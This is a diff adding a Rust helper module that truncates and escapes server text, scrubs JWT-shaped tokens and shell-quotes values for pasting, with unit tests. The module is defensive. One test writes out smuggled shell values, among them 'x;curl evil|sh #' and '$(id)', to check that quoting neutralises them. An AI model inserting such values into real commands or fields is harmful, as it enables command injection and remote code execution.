@@ -1,0 +1,151 @@
+//! Text from elsewhere, made fit to show or to paste; errors with their causes.
+
+use std::error::Error;
+
+/// The most of a remote text that reaches an error, in bytes.
+const REMOTE_TEXT_LIMIT: usize = 200;
+
+/// Cuts a text from a server to 200 bytes, escapes control characters and takes out anything
+/// shaped like a token, so that it can stand in an error message.
+pub fn escape_remote(text: &str) -> String {
+    let text = scrub(text.trim());
+    let mut shown = String::new();
+    for character in text.chars() {
+        let before = shown.len();
+        push_escaped(&mut shown, character);
+        if shown.len() > REMOTE_TEXT_LIMIT {
+            shown.truncate(before);
+            shown.push('…');
+            break;
+        }
+    }
+    shown
+}
+
+/// Escapes what could move the cursor, reorder a line or end it: control characters (C0 and C1),
+/// bidirectional controls, line and paragraph separators. Nothing is cut or taken out.
+pub fn escape(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    text.chars().for_each(|character| push_escaped(&mut shown, character));
+    shown
+}
+
+/// `text` as one word of a POSIX shell, for a command that is offered for pasting; `None` when it
+/// holds characters that [`escape`] would change: such a text must not be pasted.
+pub fn shell_quote(text: &str) -> Option<String> {
+    if text.chars().any(is_unsafe) {
+        return None;
+    }
+    shlex::try_quote(text).ok().map(std::borrow::Cow::into_owned)
+}
+
+/// `error` and its causes, each in its own words, outermost first.
+pub fn causes(error: &dyn Error) -> Vec<String> {
+    let mut texts = vec![error.to_string()];
+    let mut cause = error.source();
+    while let Some(error) = cause {
+        texts.push(error.to_string());
+        cause = error.source();
+    }
+    texts
+}
+
+/// `error` and its causes in one line: `what failed: why: why that`.
+pub fn with_causes(error: &dyn Error) -> String {
+    causes(error).join(": ")
+}
+
+/// Replaces everything in `text` that is shaped like a JWT by `[token]`.
+///
+/// A JWT's header and payload are JSON objects, so their base64url starts with `ey`.
+pub fn scrub(text: &str) -> String {
+    let in_token = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '=');
+    let mut clean = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(start) = rest.find("ey") {
+        let (before, candidate) = rest.split_at(start);
+        clean.push_str(before);
+        let end = candidate.find(|c| !in_token(c)).unwrap_or(candidate.len());
+        let (word, after) = candidate.split_at(end);
+        let parts = word.split('.').count();
+        if parts >= 2 && word.contains(".ey") || parts == 1 && word.len() > 60 {
+            clean.push_str("[token]");
+        } else {
+            clean.push_str(word);
+        }
+        rest = after;
+    }
+    clean.push_str(rest);
+    clean
+}
+
+fn push_escaped(shown: &mut String, character: char) {
+    if is_unsafe(character) {
+        shown.extend(character.escape_default());
+    } else {
+        shown.push(character);
+    }
+}
+
+/// Characters that act on a terminal instead of standing in the line.
+fn is_unsafe(character: char) -> bool {
+    let reorders = matches!(character,
+        '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+    character.is_control() || reorders || matches!(character, '\u{2028}' | '\u{2029}')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_token_inside_a_text_is_taken_out() {
+        let text = "bad token eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.c2ln, try again";
+        assert_eq!(scrub(text), "bad token [token], try again");
+    }
+
+    #[test]
+    fn a_half_token_without_its_signature_is_taken_out_too() {
+        assert_eq!(scrub("eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0"), "[token]");
+    }
+
+    #[test]
+    fn ordinary_words_stay() {
+        assert_eq!(scrub("they keyed honey.example eye"), "they keyed honey.example eye");
+    }
+
+    #[test]
+    fn remote_text_is_cut_and_cannot_move_the_cursor() {
+        let shown = escape_remote(&format!("\u{1b}[2J{}", "x".repeat(500)));
+        assert!(shown.starts_with("\\u{1b}[2Jxx"), "{shown}");
+        assert!(shown.len() <= REMOTE_TEXT_LIMIT + '…'.len_utf8(), "{}", shown.len());
+    }
+
+    #[test]
+    fn c1_bidirectional_and_line_controls_are_escaped_and_nothing_is_cut() {
+        let text = "a\u{9b}2J\u{202e}b\u{2028}\u{61c}\n";
+        assert_eq!(escape(text), "a\\u{9b}2J\\u{202e}b\\u{2028}\\u{61c}\\n");
+        let long = "é".repeat(500);
+        assert_eq!(escape(&long), long);
+    }
+
+    #[test]
+    fn what_is_pasted_is_one_word_or_nothing() {
+        assert_eq!(shell_quote("ghcr.io/acme/app").as_deref(), Some("ghcr.io/acme/app"));
+        for text in ["x;curl evil|sh #", "$(id)", "a'b", "", "a b"] {
+            let quoted = shell_quote(text).unwrap();
+            assert_eq!(shlex::split(&quoted).unwrap(), [text], "{quoted}");
+        }
+        for text in ["a\nb", "a\u{1b}b", "a\u{202e}b", "a\0b"] {
+            assert_eq!(shell_quote(text), None, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn causes_follow_their_error() {
+        let inner = std::io::Error::other("the disk is on fire");
+        let path = std::path::PathBuf::from("/x");
+        let error = crate::FileError::Io { path, source: std::sync::Arc::new(inner) };
+        assert_eq!(with_causes(&error), "/x could not be read: the disk is on fire");
+    }
+}
